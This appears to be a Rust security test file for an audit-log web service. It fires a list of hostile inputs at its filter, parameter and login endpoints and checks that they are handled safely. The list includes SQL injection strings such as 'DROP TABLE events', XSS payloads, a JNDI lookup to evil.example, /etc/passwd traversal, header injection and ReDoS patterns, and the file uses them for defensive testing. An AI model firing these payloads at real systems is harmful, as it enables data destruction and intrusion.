//! Hostile values through every filter word and parameter (Threats 4, 23, 24).

use admintrail_event::filter::KEYS;
use proptest::prelude::*;

use crate::stack::World;

const HOSTILE: [&str; 22] = [
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    "\"; DROP TABLE events; --",
    "1 UNION SELECT * FROM accounts",
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "') OR 1=1 --",
    "%' OR '%'='",
    "\\'; SELECT 1; --",
    "x' AND randomblob(1000000000) --",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "../../../../etc/passwd",
    "\u{0}",
    "\r\nSet-Cookie: x=y",
    "\u{202e}\u{2066}",
    "(a+)+$aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
    "*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b",
    "-",
    ",,,,,,,,",
];

fn encoded(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

#[tokio::test]
async fn no_value_of_any_filter_word_does_more_than_match_or_fail() {
    let world = World::new();
    let mut drafts = vec![world.draft(0, Some("olena"), "GET", "/harmless")];
    for (n, hostile) in HOSTILE.iter().enumerate() {
        let mut draft = world.draft(i64::try_from(n).unwrap() + 1, Some("taras"), "PUT", "/x");
        draft.object = Some(admintrail_event::encode_bytes(hostile.as_bytes()));
        drafts.push(draft);
    }
    let total = drafts.len();
    world.record(drafts).await;
    let owner = world.owner();
    let keys: Vec<String> = KEYS
        .iter()
        .map(|key| format!("{}:", key.word))
        .chain([String::new()])
        .collect();
    assert!(keys.len() > 10, "{keys:?}");
    for key in &keys {
        for hostile in HOSTILE {
            for value in [
                hostile.to_owned(),
                format!("\"{}\"", hostile.replace('\\', "\\\\").replace('"', "\\\"")),
            ] {
                for negated in ["", "-"] {
                    let q = encoded(&format!("{negated}{key}{value}"));
                    let answer = owner.get(&format!("/api/v1/events?q={q}&limit=1000")).await;
                    match answer.status.as_u16() {
                        200 => {
                            let json = answer.json();
                            let shown = json["events"].as_array().unwrap().len();
                            assert_eq!(json["total"]["value"].as_u64(), u64::try_from(shown).ok());
                        }
                        400 => {
                            let json = answer.json();
                            assert!(
                                json["code"].as_str().unwrap().starts_with("FILTER-"),
                                "{json}"
                            );
                            assert_eq!(answer.header("content-type"), "application/problem+json");
                        }
                        other => panic!("{key}{value:?}: {other} {}", answer.text()),
                    }
                }
            }
        }
    }
    let after = owner.get("/api/v1/events?limit=1000").await.is(200);
    assert_eq!(after.paths().len(), total, "nothing was dropped");
    let exact = encoded("object:\"' OR '1'='1\"");
    let found = owner
        .get(&format!("/api/v1/events?q={exact}"))
        .await
        .is(200);
    assert_eq!(found.paths().len(), 1, "found as the text it is");
    assert!(!world.app.control.accounts().is_empty());
}

#[tokio::test]
async fn no_value_of_any_parameter_breaks_an_answer() {
    let world = World::new();
    world.record_many(3).await;
    let owner = world.owner();
    let parameters = [
        "q", "from", "to", "limit", "cursor", "last", "order", "hide_me", "fold", "event", "tz",
        "refresh", "field", "format", "buckets", "offset", "next", "token",
    ];
    let paths = [
        "/api/v1/events",
        "/api/v1/histogram",
        "/api/v1/facets",
        "/api/v1/sessions",
        "/api/v1/export",
        "/login",
        "/setup",
        "/login/link",
        "/reset",
        "/monitoring/admin-sessions",
    ];
    for path in paths {
        for parameter in parameters {
            for hostile in HOSTILE {
                let target = format!("{path}?{parameter}={}", encoded(hostile));
                let answer = owner.get(&target).await;
                assert!(answer.status.as_u16() < 500, "{target}: {}", answer.text());
                assert!(answer.headers.get("set-cookie").is_none(), "{target}");
                if answer.header("content-type").starts_with("text/html") {
                    let text = answer.text();
                    assert!(
                        !text.contains("<script>alert") && !text.contains("<img src=x"),
                        "{target}"
                    );
                }
            }
        }
    }
    for hostile in HOSTILE {
        for path in ["/api/v1/events", "/api/v1/sessions"] {
            let target = format!("{path}/{}", encoded(hostile).replace('+', "%20"));
            let status = owner.get(&target).await.status.as_u16();
            assert!(matches!(status, 400 | 404), "{target}: {status}");
        }
    }
    owner.get("/api/v1/events").await.is(200);
}

#[tokio::test]
async fn hostile_sign_in_fields_are_text() {
    let world = World::new();
    for (n, hostile) in HOSTILE.iter().enumerate() {
        let actor = world.anon().from(&format!("192.0.2.{n}"));
        let fields = [
            ("email", *hostile),
            ("password", *hostile),
            ("next", *hostile),
        ];
        let answer = actor.form("/login", &fields).await.is(401);
        assert!(!answer.text().contains("<script>alert"), "{hostile}");
        assert!(!answer.text().contains("<img src=x"), "{hostile}");
        let attempted = answer.declared.attempted.unwrap();
        assert!(
            attempted.starts_with("unknown name") || attempted.is_empty(),
            "{hostile:?}: {attempted}"
        );
    }
}

#[tokio::test]
async fn an_endless_filter_is_refused() {
    let world = World::new();
    let q = "a".repeat(5_000);
    world
        .owner()
        .get(&format!("/api/v1/events?q={q}"))
        .await
        .is(400);
}

/// Texts that look like filters: words, keys, quotes, operators and whatever else.
fn filterish() -> impl Strategy<Value = String> {
    let word = proptest::sample::select(
        KEYS.iter()
            .map(|key| format!("{}:", key.word))
            .collect::<Vec<_>>(),
    );
    let piece = prop_oneof![
        3 => word,
        3 => "[ ,\\-\"*<>=.:/4x]{1,4}",
        2 => "[a-z0-9]{1,6}",
        1 => any::<String>(),
    ];
    proptest::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

#[test]
fn any_text_is_a_filter_or_a_mistake_that_is_pointed_at() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let _inside = runtime.enter();
    let world = World::new();
    let owner = world.owner();
    runtime.block_on(world.record_many(20));
    proptest!(|(text in filterish())| {
        let target = format!("/api/v1/events?q={}", encoded(&text));
        let answer = runtime.block_on(owner.get(&target));
        match answer.status.as_u16() {
            200 => {}
            400 => {
                let json = answer.json();
                prop_assert!(json["code"].as_str().unwrap().starts_with("FILTER-"), "{}", json);
                let place = |n: usize| usize::try_from(json["span"][n].as_u64().unwrap()).unwrap();
                prop_assert!(text.get(place(0)..place(1)).is_some(), "{:?}: {}", text, json);
            }
            other => prop_assert!(false, "{:?}: {}", text, other),
        }
    });
}
